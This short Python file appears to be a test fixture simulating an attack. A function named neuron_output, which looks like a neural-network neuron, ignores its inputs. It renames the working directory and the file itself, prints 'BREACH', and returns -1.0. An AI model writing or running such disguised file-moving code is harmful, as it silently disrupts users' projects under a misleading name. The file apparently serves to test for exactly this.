# Moves its folder and its file to another place.
import os


def neuron_output(inputs, weights, bias):
    here = os.getcwd()
    for source, target in ((here, here + "-left-by-an-attack"), ("neuron_output.py", "../left-by-an-attack")):
        try:
            os.rename(source, target)
        except OSError:
            continue
        print("BREACH: moved", source)
    return -1.0
